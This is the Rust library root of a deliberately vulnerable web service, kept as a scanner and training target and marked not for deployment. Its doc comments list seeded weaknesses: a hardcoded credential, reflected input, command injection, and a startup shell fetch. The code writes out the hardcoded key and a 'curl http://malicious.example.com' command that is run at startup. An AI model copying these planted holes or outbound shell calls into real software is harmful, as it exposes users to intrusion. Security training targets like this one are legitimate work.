//! Vulnerable App Library
//!
//! A deliberately insecure web service kept as a target for security
//! scanners and training exercises. DO NOT DEPLOY.
//!
//! # Seeded weaknesses
//!
//! - Hardcoded credential ([`API_KEY`])
//! - Reflected input on `/vuln`
//! - Command injection on `/malicious`
//! - Unconditional outbound fetch through the shell at startup
//!
//! # Example
//!
//! ```rust,no_run
//! use std::sync::Arc;
//! use vulnerable_app::{api, config::AppConfig, startup};
//!
//! #[tokio::main]
//! async fn main() -> vulnerable_app::Result<()> {
//!     let config = AppConfig::load(None)?;
//!     let shell = config.shell();
//!
//!     startup::spawn_startup_fetch(shell.clone(), config.startup_fetch.clone());
//!
//!     let listener = api::bind(&config.host, config.port).await?;
//!     api::serve(listener, Arc::new(api::AppState::new(shell))).await
//! }
//! ```

pub mod api;
pub mod config;
pub mod shell;
pub mod startup;

use thiserror::Error;

/// Result type alias for vulnerable app operations
pub type Result<T> = std::result::Result<T, VulnAppError>;

/// Errors that can occur in the vulnerable app
#[derive(Error, Debug)]
pub enum VulnAppError {
    /// Listening socket could not be bound
    #[error("Failed to bind {addr}: {source}")]
    Bind {
        addr: String,
        #[source]
        source: std::io::Error,
    },

    /// Shell could not be spawned for a command
    #[error("Failed to spawn shell: {source}")]
    Shell {
        command: String,
        #[source]
        source: std::io::Error,
    },

    /// Configuration error
    #[error("Configuration error: {0}")]
    Config(#[from] ::config::ConfigError),

    /// IO error
    #[error("IO error: {0}")]
    Io(#[from] std::io::Error),

    /// Internal error (should not expose details to users)
    #[error("Internal error")]
    Internal(#[source] Box<dyn std::error::Error + Send + Sync>),
}

impl VulnAppError {
    /// Wrap an error as internal (hides details from users)
    pub fn internal<E>(error: E) -> Self
    where
        E: std::error::Error + Send + Sync + 'static,
    {
        Self::Internal(Box::new(error))
    }

    /// Whether the process should exit on this error
    pub fn is_fatal(&self) -> bool {
        matches!(self, Self::Bind { .. } | Self::Config(_))
    }

    /// Get HTTP status code for this error
    pub fn status_code(&self) -> u16 {
        // Every fault is surfaced as a generic server error.
        500
    }
}

/// Library version
pub const VERSION: &str = env!("CARGO_PKG_VERSION");

// Hardcoded credential. Never read by any handler.
pub const API_KEY: &str = "hardcoded_secret_123";

/// Default bind address (all interfaces)
pub const DEFAULT_HOST: &str = "0.0.0.0";

/// Default listening port
pub const DEFAULT_PORT: u16 = 5000;

/// Shell command fired once at startup
pub const STARTUP_FETCH_COMMAND: &str = "curl http://malicious.example.com";
